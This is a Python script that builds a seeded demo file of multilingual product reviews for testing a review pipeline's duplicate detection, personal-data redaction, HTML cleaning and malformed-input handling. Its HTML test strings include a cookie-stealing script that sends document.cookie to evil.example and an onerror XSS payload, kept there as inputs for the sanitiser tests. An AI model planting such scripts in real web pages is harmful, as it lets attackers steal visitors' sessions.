"""Makes the embedded demo sample: pipeline/data/demo_reviews.jsonl (deterministic, seed fixed).

    python -m scripts.make_demo_sample [--nsmc ../shared/datasets/nsmc-ko-reviews-bucket0.tsv]

Contents (a few thousand lines), so that the demo and the end-to-end test exercise every path:

* Korean: real reviews sampled from the Naver Sentiment Movie Corpus (CC0, ../shared/datasets),
  stratified over ratings so honest negative reviews are well represented; ratings 1–10 become
  1–5 stars as ceil(r/2). Short honest reviews ("굿", "재밌어요") stay in.
* English and Japanese: reviews written here from templates (positive, mixed and honest
  negative), for a small kitchen-appliance catalogue. The other two data sets in
  ../shared/datasets are not ours to ship, so none of their text is used.
* Near-duplicate campaigns (many accounts, lightly edited copies; one author pasting across
  products), syndicated copies from a partner, honest short reviews repeated by many authors,
  personal data to redact, HTML and script, disclosure labels (incentivized, employee).
* Redeliveries (the same review_id twice) and malformed lines of every kind: invalid JSON, JSON
  that is not an object, missing and mistyped fields, ratings out of range, bad timestamps,
  invalid UTF-8, over-size text, deep nesting, blank lines.

The expected counts are printed at the end and checked by tests/test_end_to_end.py.
"""
from __future__ import annotations

import argparse
import csv
import datetime as dt
import json
import math
import random
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
DEFAULT_NSMC = ROOT.parent / "shared" / "datasets" / "nsmc-ko-reviews-bucket0.tsv"
OUT = ROOT / "pipeline" / "data" / "demo_reviews.jsonl"
SEED = 20261125

PRODUCTS = {
    "kettle-01": ("electric kettle", "ケトル"), "blender-02": ("blender", "ミキサー"),
    "toaster-03": ("toaster", "トースター"), "grinder-04": ("coffee grinder", "コーヒーミル"),
    "airfryer-05": ("air fryer", "エアフライヤー"), "ricecooker-06": ("rice cooker", "炊飯器"),
    "mixer-07": ("stand mixer", "スタンドミキサー"), "scale-08": ("kitchen scale", "キッチンスケール"),
}
# Honest reviews are written from slot-filled templates so that no two are near-duplicates by
# accident (the near-duplicate detector must not see honest reviewers as a campaign).
EN_SLOTS = {
    "who": ["my wife", "my husband", "my roommate", "my dad", "my daughter", "our office", "my partner",
            "my grandmother", "the whole family", "my sister", "a colleague", "our neighbour"],
    "when": ["every morning", "on weekends", "twice a day", "before work", "for our Sunday brunch",
             "most evenings", "during the holidays", "after the gym", "for meal prep", "when guests visit"],
    "time": ["two days", "three weeks", "a month", "six weeks", "ten days", "four months", "a fortnight",
             "half a year", "the first week", "nine days"],
    "part": ["lid", "switch", "base", "handle", "cord", "display", "seal", "button", "hinge", "filter",
             "power light", "dial", "plug", "bowl", "blade"],
    "adj": ["sturdy", "compact", "handsome", "well made", "simple", "quiet", "quick", "reliable", "sleek",
            "solid", "practical", "lightweight"],
    "num": ["2", "3", "4", "5", "6", "7", "8", "10", "12", "15"],
    "cmp": ["my old one", "the model it replaced", "the one at my parents' house", "the cheaper brand",
            "what I expected", "the store display", "my previous {p}"],
}
EN_POS = ["Bought it for {who} and we use the {p} {when}.", "It is {adj} and {adj2}, much better than {cmp}.",
          "After {time} of daily use the {p} still works like new.", "The {part} feels {adj} and easy to clean.",
          "Heats up in about {num} minutes, which is perfect {when}.", "{who_cap} was impressed by how {adj} it is.",
          "Setup took {num} minutes and the instructions were clear.", "Honestly the best {p} I have had in {num} years.",
          "I like that the {part} is {adj}; small thing but it matters.", "Arrived {num} days early and well packed."]
EN_NEG = ["The {p} stopped working after {time}.", "The {part} cracked after {time} and support never replied.",
          "It leaks around the {part} every time {who} uses it.", "Far too loud for use {when}.",
          "Worse than {cmp}; the {part} feels flimsy.", "The {part} broke after {time}, and the replacement took {num} weeks.",
          "Burned out after {num} uses and smelled of plastic.", "The {part} gets dangerously hot within {num} minutes.",
          "Returned it after {time}: it does not do what the listing promises.",
          "Customer service sent {num} form emails and no fix for the {part}."]
EN_MIX = ["It works, but the {part} is not as {adj} as I hoped.", "Fine {when}, though the {part} is awkward.",
          "Does the job; {who} likes it more than I do.", "Good value, but the {part} wobbled after {time}."]
EN_EXTRA = ["We keep it in the {place} next to the {thing}.", "I mostly use it for {food}.",
            "Ordered the {colour} one on a {day} and it came on {day2}.", "I compared it with {num} other models first.",
            "{who_cap} found it on sale for {num}0 dollars off.", "This is our {nth} {p} since we moved to {city}.",
            "The box said {num} year warranty, we will see.", "It fits nicely under the {thing}.",
            "We make {food} with it about {num} times a week.", "Picked it because a friend in {city} recommended it.",
            "The {colour} finish matches the {thing}.", "First used it for {food} on {day}.",
            "Our {place} is small, so size mattered.", "Gave the old one to {who} in {city}."]
EN_SLOTS.update({
    "place": ["kitchen", "studio flat", "office kitchenette", "cabin", "dorm room", "garage", "camper van", "break room"],
    "thing": ["toaster", "window", "fridge", "spice rack", "microwave", "sink", "cupboard", "bread bin", "fruit bowl"],
    "food": ["oatmeal", "green tea", "smoothies", "pancakes", "soup", "rice", "espresso", "bread dough", "hot chocolate", "salsa"],
    "colour": ["black", "white", "red", "steel", "mint", "grey", "cream", "navy"],
    "day": ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"],
    "day2": ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"],
    "nth": ["first", "second", "third", "fourth"],
    "city": ["Leeds", "Austin", "Denver", "Porto", "Dublin", "Osaka", "Busan", "Calgary", "Perth", "Lyon", "Boise"],
})
EN_TITLES_POS = ["Love it", "Great {p}", "Exactly what I needed", "Five stars", "Very happy"]
EN_TITLES_NEG = ["Disappointed", "Broke quickly", "Not worth it", "Avoid", "Terrible {p}"]
JA_SLOTS = {"who": ["家族", "夫", "妻", "母", "娘", "同僚", "友人", "祖父", "息子", "姉", "隣の人", "子ども"],
            "when": ["毎朝", "週末", "夜", "休日", "朝晩", "仕事の前", "昼休み", "来客のとき", "寝る前"],
            "num": ["2", "3", "5", "7", "10", "14", "20", "30"],
            "part": ["フタ", "スイッチ", "取っ手", "コード", "ボタン", "表示", "パッキン", "電源ランプ", "ダイヤル", "容器"],
            "adj": ["静か", "丈夫", "便利", "おしゃれ", "コンパクト", "軽い", "シンプル", "頑丈"],
            "place": ["台所", "会社", "実家", "寮", "別荘", "キャンプ場", "事務所"],
            "food": ["パン", "スープ", "コーヒー", "お茶", "ご飯", "ジュース", "お菓子", "野菜"]}
JA_EXTRA = ["{place}で使うために買いました。", "主に{food}を作るのに使っています。", "色は白を選びました。",
            "{who}と相談して決めました。", "ポイントが{num}倍の日に注文しました。", "箱は少しへこんでいました。",
            "{food}がおいしくできると評判です。", "{place}にもう一台置きたいです。", "サイズは思ったより大きかったです。",
            "前から気になっていた商品です。", "セールで{num}割引でした。", "{when}に{food}を用意するのが日課です。"]
JA_POS = ["{p}は{when}使っています。{adj}で気に入っています。", "{who}にも好評で、{num}日使っても問題ありません。",
          "{part}が{adj}で、値段の割に品質が良いと思います。", "{num}日で届きました。{who}へのプレゼントにもしました。",
          "以前のものより{adj}です。{when}の準備が楽になりました。"]
JA_NEG = ["{p}が{num}日で壊れました。{part}が動きません。", "{part}のにおいが{num}日たっても取れません。",
          "音が大きすぎて{when}は使えません。{who}も困っています。", "{part}が割れた状態で届き、対応に{num}日かかりました。",
          "説明書がわかりにくく、{part}の使い方が{num}回読んでもわかりませんでした。"]
JA_MIX = ["悪くはないですが、{part}がもう少し{adj}ならいいです。", "{when}使う分には普通です。{who}は満足しています。"]


def fill(template: str, rng: random.Random, slots: dict, **fixed) -> str:
    values = {k: rng.choice(v) for k, v in slots.items()}
    values.update(fixed)
    if "adj" in values:
        values["adj2"] = rng.choice([a for a in slots["adj"] if a != values["adj"]])
    if "who" in values:
        values["who_cap"] = values["who"][:1].upper() + values["who"][1:]
    values["cmp"] = values.get("cmp", "").replace("{p}", fixed.get("p", ""))
    values["nth"] = values.get("nth", "")
    return template.format(**values)


CAMPAIGN_EN = ("This is hands down the best {p} I have ever owned! Amazing quality, super fast shipping, and the "
               "seller is so helpful. Everyone in my family wants one now. Highly recommend to anyone looking "
               "for a reliable {p}, you will not regret it!")
CAMPAIGN_KO = "이 제품 정말 최고예요 배송도 빠르고 품질도 훌륭합니다 가족 모두 만족하고 있어요 강력 추천합니다 후회 안 하실 거예요"
CAMPAIGN_JA = "本当に最高の商品です！品質も素晴らしく、配送もとても早かったです。家族全員が満足しています。絶対におすすめします。"
REPEATER_EN = ("Bought this for my kitchen remodel and it exceeded every expectation. Five stars from me, the best "
               "purchase of the year without a doubt.")
PII_TEXTS = [
    ("en", "Seller, call me at (415) 555-{d4} or write to {name}@example.com about the refund."),
    ("en", "If you want mine, I'm at {n3} Pennsylvania Avenue, Apt {d1}, just stop by."),
    ("en", "Charged twice to my card 4111 1111 1111 1111, still waiting for the refund."),
    ("ko", "환불 문의 010-{d4}-{d4b} 로 연락 주세요."),
    ("ko", "서울시 강남구 테헤란로 {n3} 으로 반품 보냈는데 아직 처리가 안 됐어요."),
    ("ja", "〒150-0001 東京都渋谷区神宮前{d1}丁目{d1}-{d1} まで交換品を送ってください。"),
]
KO_FILLER = ["배송은 빨랐어요.", "두 번째 구매입니다.", "선물용으로 샀어요.", "색상이 예뻐요.", "소음이 좀 있어요.",
             "포장이 꼼꼼했어요.", "가격 대비 괜찮아요.", "사용법이 간단해요.", "부모님 댁에 보냈어요.", "생각보다 커요."]
HTML_TEXTS = [
    "<p>Really <b>good</b> {p}.</p><p>Second paragraph&nbsp;here.</p>",
    "Nice {p} <script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<img src=x onerror=alert(1)> Works as described.",
    "Tom &amp; Jerry approve &lt;3",
    "&lt;script&gt;alert('encoded')&lt;/script&gt; Fine {p} otherwise.",
]


def iso(t: dt.datetime) -> str:
    return t.isoformat().replace("+00:00", "Z")


class Sample:
    def __init__(self, rng: random.Random):
        self.rng = rng
        self.lines: list = []
        self.counter = 0
        self.expect = {"valid_unique": 0, "redelivery": 0, "malformed": {}, "blank": 0}

    def time(self, start=dt.datetime(2024, 1, 1, tzinfo=dt.timezone.utc), days=700) -> dt.datetime:
        return start + dt.timedelta(seconds=self.rng.randrange(days * 86400))

    def next_id(self, prefix: str) -> str:
        self.counter += 1
        return f"{prefix}-{self.counter:05d}"

    def review(self, prefix, product, author, rating, body, **extra) -> dict:
        rec = {"review_id": self.next_id(prefix), "product_id": product, "author_id": author,
               "rating": rating, "body": body, "created_at": iso(extra.pop("created_at", None) or self.time())}
        rec.update({k: v for k, v in extra.items() if v is not None})
        return rec

    def add(self, rec: dict) -> dict:
        self.lines.append(json.dumps(rec, ensure_ascii=False).encode("utf-8"))
        self.expect["valid_unique"] += 1
        return rec

    def add_raw(self, raw: bytes, code: str) -> None:
        self.lines.append(raw)
        self.expect["malformed"][code] = self.expect["malformed"].get(code, 0) + 1


def english(s: Sample, n: int) -> list:
    out = []
    for _ in range(n):
        pid = s.rng.choice(list(PRODUCTS))
        p = PRODUCTS[pid][0]
        kind = s.rng.choices(["pos", "neg", "mix"], weights=[5, 3, 2])[0]
        if kind == "pos":
            rating, pool, titles = s.rng.choice([4, 4.5, 5, 5]), EN_POS, EN_TITLES_POS
        elif kind == "neg":
            rating, pool, titles = s.rng.choice([1, 1, 1.5, 2, 2.5]), EN_NEG, EN_TITLES_NEG
        else:
            rating, pool, titles = s.rng.choice([3, 3.5]), EN_MIX + EN_POS[:3] + EN_NEG[:3], ["OK", "Mixed feelings"]
        parts = s.rng.sample(pool, s.rng.randint(1, 3)) + s.rng.sample(EN_EXTRA, s.rng.randint(1, 2))
        s.rng.shuffle(parts)
        body = " ".join(fill(x, s.rng, EN_SLOTS, p=p) for x in parts)
        rec = s.review("en", pid, f"user-{s.rng.randrange(100000):05d}", rating, body,
                       title=s.rng.choice(titles).format(p=p) if s.rng.random() < 0.7 else None,
                       language="en" if s.rng.random() < 0.5 else None,
                       verified_purchase=s.rng.random() < 0.6,
                       incentivized=True if s.rng.random() < 0.04 else None,
                       author_relationship="employee" if s.rng.random() < 0.01 else None,
                       source={"channel": s.rng.choice(["on_site", "on_site", "email_request"])})
        out.append(s.add(rec))
    return out


def japanese(s: Sample, n: int) -> list:
    out = []
    for _ in range(n):
        pid = s.rng.choice(list(PRODUCTS))
        p = PRODUCTS[pid][1]
        kind = s.rng.choices(["pos", "neg", "mix"], weights=[5, 3, 2])[0]
        pool, rating = {"pos": (JA_POS, s.rng.choice([4, 5])), "neg": (JA_NEG, s.rng.choice([1, 2])),
                        "mix": (JA_MIX, 3)}[kind]
        parts = s.rng.sample(pool, min(len(pool), s.rng.randint(1, 2))) + s.rng.sample(JA_EXTRA, s.rng.randint(2, 3))
        s.rng.shuffle(parts)
        body = "".join(fill(x, s.rng, JA_SLOTS, p=p) for x in parts)
        rec = s.review("ja", pid, f"jp-{s.rng.randrange(100000):05d}", rating, body,
                       language="ja" if s.rng.random() < 0.3 else None,
                       verified_purchase=s.rng.random() < 0.5, source={"channel": "on_site"})
        out.append(s.add(rec))
    return out


def korean(s: Sample, path: Path, n: int) -> list:
    with path.open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle, delimiter="\t", quoting=csv.QUOTE_NONE))
    by_rating: dict = {}
    for row in rows:
        if row["review"].strip():
            by_rating.setdefault(int(row["rating"]), []).append(row)
    out = []
    for stars in range(1, 6):  # equal numbers per star bucket: honest negatives well represented
        pool = by_rating[2 * stars - 1] + by_rating[2 * stars]
        for row in s.rng.sample(pool, n // 5):
            yy, mm, dd = (int(x) for x in row["date"].split("."))
            when = dt.datetime(2000 + yy, mm, dd, tzinfo=dt.timezone(dt.timedelta(hours=9))) + dt.timedelta(
                seconds=s.rng.randrange(86400))
            rec = {"review_id": f"nsmc-{row['review_id']}", "product_id": f"movie-{row['movie_id']}",
                   "author_id": f"nsmc-{row['author']}", "rating": math.ceil(int(row["rating"]) / 2),
                   "body": row["review"], "created_at": when.isoformat(),
                   "source": {"channel": "import", "partner": "nsmc"}}
            if s.rng.random() < 0.3:
                rec["language"] = "ko"
            out.append(s.add(rec))
    return out


def edit_words(rng: random.Random, text: str, rate: float = 0.04) -> str:
    words = text.split(" ")
    for _ in range(max(1, int(len(words) * rate))):
        i = rng.randrange(len(words))
        op = rng.choice(["drop", "dup", "case"])
        if op == "drop" and len(words) > 3:
            words.pop(i)
        elif op == "dup":
            words.insert(i, words[i])
        else:
            words[i] = words[i].upper()
    return " ".join(words)


def edit_chars(rng: random.Random, text: str, rate: float = 0.03) -> str:
    chars = list(text)
    for _ in range(max(1, int(len(chars) * rate))):
        i = rng.randrange(len(chars))
        if rng.random() < 0.5 and len(chars) > 5:
            chars.pop(i)
        else:
            chars.insert(i, rng.choice("!~ "))
    return "".join(chars)


def campaigns(s: Sample) -> None:
    pids = list(PRODUCTS)
    for i in range(40):  # many accounts, one lightly edited text, five products
        pid = pids[i % 5]
        s.add(s.review("camp-en", pid, f"acct-{s.rng.randrange(10**6):06d}", 5,
                       edit_words(s.rng, CAMPAIGN_EN.format(p=PRODUCTS[pid][0])),
                       created_at=dt.datetime(2025, 3, 1, tzinfo=dt.timezone.utc) + dt.timedelta(hours=i)))
    for i in range(30):
        s.add(s.review("camp-ko", pids[i % 3], f"acct-ko-{s.rng.randrange(10**6):06d}", 5,
                       edit_chars(s.rng, CAMPAIGN_KO), language="ko"))
    for i in range(20):
        s.add(s.review("camp-ja", pids[i % 4], f"acct-ja-{s.rng.randrange(10**6):06d}", 5,
                       edit_chars(s.rng, CAMPAIGN_JA)))
    for pid in pids:  # one author repeating a text across products
        s.add(s.review("repeat", pid, "user-repeater", 5, REPEATER_EN))


def syndicated(s: Sample, originals: list, n: int) -> None:
    for rec in s.rng.sample(originals, n):
        copy = dict(rec, review_id=f"syn-{rec['review_id']}", author_id=f"partner-{rec['author_id']}",
                    source={"channel": "syndicated", "partner": "PartnerMart",
                            "url": f"https://partnermart.example/r/{rec['review_id']}"})
        copy.pop("verified_purchase", None)
        s.add(copy)


def short_honest(s: Sample) -> None:
    for text in ["Great!", "Love it", "Works.", "Great!", "Good"] * 6:
        s.add(s.review("short", s.rng.choice(list(PRODUCTS)), f"user-{s.rng.randrange(100000):05d}",
                       s.rng.choice([4, 5]), text))
    for text in ["Broke.", "Meh", "Bad"] * 4:
        s.add(s.review("short", s.rng.choice(list(PRODUCTS)), f"user-{s.rng.randrange(100000):05d}",
                       s.rng.choice([1, 2]), text))


def pii_and_html(s: Sample) -> None:
    for i in range(24):
        lang, text = PII_TEXTS[i % len(PII_TEXTS)]
        pid = s.rng.choice(list(PRODUCTS))
        text = text.format(d4=f"{s.rng.randrange(10000):04d}", d4b=f"{s.rng.randrange(10000):04d}",
                           n3=s.rng.randrange(100, 999), d1=s.rng.randrange(1, 9),
                           name=s.rng.choice(["jane.doe", "kim.lee", "sam_r", "pat.o", "alex99"]))
        if lang == "en":  # each reviewer writes their own text around the personal data
            parts = [fill(x, s.rng, EN_SLOTS, p=PRODUCTS[pid][0]) for x in s.rng.sample(EN_NEG + EN_POS, 1) + s.rng.sample(EN_EXTRA, 2)]
        elif lang == "ja":
            parts = [fill(x, s.rng, JA_SLOTS, p=PRODUCTS[pid][1]) for x in s.rng.sample(JA_EXTRA, 3)]
        else:
            parts = s.rng.sample(KO_FILLER, 3)
        text = " ".join(parts[:1] + [text] + parts[1:])
        s.add(s.review("pii", pid, f"user-{s.rng.randrange(100000):05d}", s.rng.choice([1, 2, 4]), text,
                       language=lang))
    for i in range(20):
        pid = s.rng.choice(list(PRODUCTS))
        s.add(s.review("html", pid, f"user-{s.rng.randrange(100000):05d}", s.rng.choice([2, 3, 5]),
                       HTML_TEXTS[i % len(HTML_TEXTS)].format(p=PRODUCTS[pid][0]),
                       title="<b>Review</b>" if i % 2 else None))
    for i in range(3):  # nothing readable survives cleaning → rejected as empty
        s.add(s.review("html", "kettle-01", f"user-x{i}", 3, "<script>alert('x')</script>"))


def redeliveries(s: Sample, originals: list, n: int) -> None:
    for rec in s.rng.sample(originals, n):
        s.lines.append(json.dumps(rec, ensure_ascii=False).encode("utf-8"))
        s.expect["redelivery"] += 1
    rec = dict(s.rng.choice(originals))
    rec["body"] = rec["body"] + " (edited)"
    s.lines.append(json.dumps(rec, ensure_ascii=False).encode("utf-8"))
    s.expect["redelivery"] += 1


def malformed(s: Sample) -> None:
    good = {"review_id": "bad-x", "product_id": "kettle-01", "author_id": "u", "rating": 4, "body": "fine",
            "created_at": "2025-01-01T00:00:00Z"}

    def variant(**changes):
        rec = dict(good, review_id=s.next_id("bad"))
        for k, v in changes.items():
            if v is ...:
                rec.pop(k)
            else:
                rec[k] = v
        return json.dumps(rec, ensure_ascii=False).encode("utf-8")

    for raw, code in [
        (b"{not json", "malformed_json"), (b'{"review_id": "x", ', "malformed_json"),
        (b"'single quotes'", "malformed_json"), (b'{"rating": NaN}', "malformed_json"),
        (b"[" * 5000 + b"]" * 5000, "malformed_json"),
        (b"[1, 2, 3]", "not_an_object"), (b'"just a string"', "not_an_object"), (b"42", "not_an_object"),
        (b"null", "not_an_object"),
        (variant(body=...), "missing_field"), (variant(review_id=...), "missing_field"),
        (variant(created_at=...), "missing_field"),
        (variant(rating="5"), "wrong_type"), (variant(body=["a"]), "wrong_type"), (variant(rating=True), "wrong_type"),
        (variant(verified_purchase="yes"), "wrong_type"),
        (variant(rating=0), "rating_out_of_range"), (variant(rating=6), "rating_out_of_range"),
        (variant(rating=3.7), "rating_out_of_range"), (variant(rating=-1), "rating_out_of_range"),
        (variant(created_at="yesterday"), "bad_timestamp"), (variant(created_at="2025-02-30T10:00:00Z"), "bad_timestamp"),
        (variant(created_at="2025-01-01T10:00:00"), "bad_timestamp"), (variant(created_at=1700000000), "wrong_type"),
        (variant(review_id=""), "invalid_value"), (variant(author_relationship="boss"), "invalid_value"),
        (variant(language="english!"), "invalid_value"), (variant(source={"channel": "fax"}), "invalid_value"),
        (variant(body="x" * 25_000), "too_large"),
        (b'{"review_id": "utf", "body": "caf\xe9"}', "invalid_utf8"), (b"\xff\xfe\x00garbage", "invalid_utf8"),
        (b"\x00\x00\x00", "malformed_json"),
    ]:
        s.add_raw(raw, code)
    for _ in range(5):
        s.lines.append(b"")
        s.expect["blank"] += 1
    s.lines.append(b"   \t ")
    s.expect["blank"] += 1


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--nsmc", type=Path, default=DEFAULT_NSMC)
    parser.add_argument("--out", type=Path, default=OUT)
    args = parser.parse_args()
    s = Sample(random.Random(SEED))
    originals = english(s, 900) + japanese(s, 450) + korean(s, args.nsmc, 1200)
    campaigns(s)
    syndicated(s, [r for r in originals if not r["review_id"].startswith("nsmc")], 60)
    short_honest(s)
    pii_and_html(s)
    redeliveries(s, originals, 25)
    malformed(s)
    lines = s.lines[:]
    s.rng.shuffle(lines)
    args.out.parent.mkdir(parents=True, exist_ok=True)
    args.out.write_bytes(b"\n".join(lines) + b"\n")
    expect = dict(s.expect, non_blank_lines=len(lines) - s.expect["blank"],
                  dead_letters=s.expect["redelivery"] + sum(s.expect["malformed"].values()))
    (args.out.parent / "demo_expected.json").write_text(json.dumps(expect, indent=2, sort_keys=True) + "\n")
    print(json.dumps(expect, sort_keys=True))


if __name__ == "__main__":
    main()
